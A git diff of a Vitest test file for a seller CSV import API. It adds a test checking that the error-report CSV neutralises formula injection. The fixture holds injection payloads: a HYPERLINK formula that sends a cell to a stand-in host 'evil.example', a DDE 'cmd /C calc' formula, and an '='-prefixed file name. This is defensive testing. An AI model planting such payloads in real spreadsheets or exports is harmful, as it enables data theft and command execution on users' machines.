@@ -1,4 +1,6 @@
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { registerSeller } from '../../../tests/support/accounts';
 import { ApiClient } from '../../../tests/support/client';
 import { startTestApp, type TestApp } from '../../../tests/support/app';
 import { waitFor } from '../../../tests/support/process';
@@ -14,15 +16,7 @@ beforeAll(async () => {
     { id: 'cat_tees', slug: 'tees', name: 'T-shirts', nameZh: 'T恤', parentId: 'cat_fashion' },
   ]);
   leaf = 'tees';
-  seller = new ApiClient(app.url);
-  const reg = await seller.post('/api/auth/register', {
-    email: `importer${Date.now()}@example.com`,
-    password: 'long enough',
-    name: 'Importer',
-    role: 'seller',
-    shopName: 'Import Co',
-  });
-  seller.csrfToken = reg.body.csrfToken;
+  seller = await registerSeller(app.url, { name: 'Importer', shopName: 'Import Co' });
 });
 afterAll(() => app?.close());
 
@@ -136,16 +130,45 @@ describe('CSV import', () => {
   it('keeps imports private to their seller', async () => {
     const csv = ['sku,name,category,price', `PRIV-1,Private,${leaf},10`].join('\n');
     const id = (await upload(csv)).body.id;
-    const other = new ApiClient(app.url);
-    const reg = await other.post('/api/auth/register', {
-      email: `o${Date.now()}@example.com`,
-      password: 'long enough',
-      name: 'O',
-      role: 'seller',
-      shopName: 'Other',
-    });
-    other.csrfToken = reg.body.csrfToken;
+    const other = await registerSeller(app.url, { name: 'O', shopName: 'Other' });
     expect((await other.get(`/api/seller/imports/${id}`)).status).toBe(404);
     expect((await new ApiClient(app.url).get('/api/seller/imports')).status).toBe(401);
+  });
+
+  it('offers the row errors as a CSV that reads back as the errors and runs no formula', async () => {
+    const csv = [
+      'sku,name,category,price,stock,attributes',
+      `X-1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",=cmd|' /C calc'!A0,10,1,`,
+      `X-2,Plain,${leaf},10,1,"@SUM(1,2)"`,
+      `X-3,Minus,${leaf},-10,1,`,
+    ].join('\n');
+    const done = await finished((await upload(csv, '=report.csv')).body.id);
+    expect(done.failed).toBe(3);
+
+    const res = await seller.get(`/api/seller/imports/${done.id}/errors.csv`);
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(res.headers.get('content-disposition')).toContain('_report-errors.csv');
+    const rows = parse(res.body) as string[][];
+    expect(rows[0]).toEqual(['line', 'column', 'error']);
+    const expected = (done.errors as { line: number; field: string; message: string }[]).map((e) => [
+      String(e.line),
+      e.field,
+      /^[=+\-@\t\r]/.test(e.message) ? `'${e.message}` : e.message,
+    ]);
+    expect(rows.slice(1)).toEqual(expected);
+    expect(rows.slice(1).map((r) => r[0])).toEqual(['2', '3', '4']);
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+
+    const stranger = new ApiClient(app.url);
+    const reg = await stranger.post('/api/auth/register', {
+      email: `stranger${Date.now()}@example.com`,
+      password: 'long enough password',
+      name: 'Stranger',
+      role: 'seller',
+      shopName: 'Other Co',
+    });
+    stranger.csrfToken = reg.body.csrfToken;
+    expect((await stranger.get(`/api/seller/imports/${done.id}/errors.csv`)).status).toBe(404);
   });
 });
